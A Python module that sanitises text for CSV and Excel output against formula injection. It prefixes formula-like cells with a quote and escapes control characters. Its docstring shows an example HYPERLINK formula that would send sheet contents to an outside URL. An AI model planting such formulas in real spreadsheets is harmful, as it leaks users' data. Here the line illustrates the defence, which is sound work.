"""Text from inputs stays text in every output (OWASP CSV-injection rules).

A spreadsheet program reads a cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return as a formula: a tranche named ``=2+3`` would show 5, and
``=HYPERLINK("http://…?x="&A1,"x")`` would send the sheet's contents away. Names and segment
values come from deal files and tapes, so every writer passes its text through here:

- CSV: :func:`csv_text` prefixes such text with a single quote (``'=2+3``), the OWASP rule;
  :func:`csv_safe` applies it to every text cell, column name and index label of a DataFrame.
- Workbook: :func:`is_formula_like` tells the workbook writer which text cells to store as text
  with Excel's quote prefix (the cell shows ``=2+3``; it is never evaluated).

Numbers are left alone (``-1.5`` as a float is a number, not text). Control characters (``\x01``,
ESC), which an ``.xlsx`` cannot hold, are written visibly as ``\x01`` by :func:`printable`
instead of failing the whole write after the model has run.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

__all__ = ["FORMULA_STARTS", "csv_safe", "csv_text", "is_formula_like", "printable"]

#: First characters that make a spreadsheet read text as a formula (OWASP CSV injection).
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # what XML 1.0 (so .xlsx) cannot hold


def printable(text: str) -> str:
    """``text`` with each control character an ``.xlsx`` cannot hold spelled ``\\xNN``."""
    return _CONTROL.sub(lambda m: f"\\x{ord(m.group()):02x}", text)


def is_formula_like(value: Any) -> bool:
    """True for text that a spreadsheet would read as a formula (see :data:`FORMULA_STARTS`)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_text(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is formula-like text; anything else unchanged."""
    return "'" + value if is_formula_like(value) else value


def _safe_labels(index: pd.Index) -> pd.Index:
    if isinstance(index, pd.MultiIndex):
        return index.set_levels([_safe_labels(lv) for lv in index.levels])
    if index.dtype == object or isinstance(index.dtype, pd.StringDtype | pd.CategoricalDtype):
        return index.map(csv_text)
    return index


def csv_safe(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` ready for ``to_csv``: formula-like text in cells, column names and index
    labels prefixed with ``'`` (numbers, dates and other text unchanged)."""
    out = df.copy()
    for col in out.columns:
        s = out[col]
        if s.dtype == object or isinstance(s.dtype, pd.StringDtype | pd.CategoricalDtype):
            out[col] = s.astype(object).map(csv_text)
    out.columns = _safe_labels(out.columns)
    out.index = _safe_labels(out.index)
    return out
